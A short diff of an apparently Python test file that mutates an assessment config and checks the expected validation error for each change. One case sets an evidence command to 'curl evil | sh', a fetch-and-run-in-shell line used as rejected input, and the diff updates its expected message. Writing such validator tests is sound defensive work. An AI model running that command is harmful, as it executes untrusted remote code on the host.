@@ -137,7 +137,7 @@ def drop(name: str) -> Change:
         (lambda config, _: config["assessment"]["classes"][1].update(label=1), "each once"),
         (
             lambda config, _: config["assessment"]["evidence"].update(command="curl evil | sh"),
-            "matching regex",
+            "Invalid enum value",
         ),
         (
             lambda config, _: config["assessment"]["budget"]["parameters"][0].update(path="fc.x"),
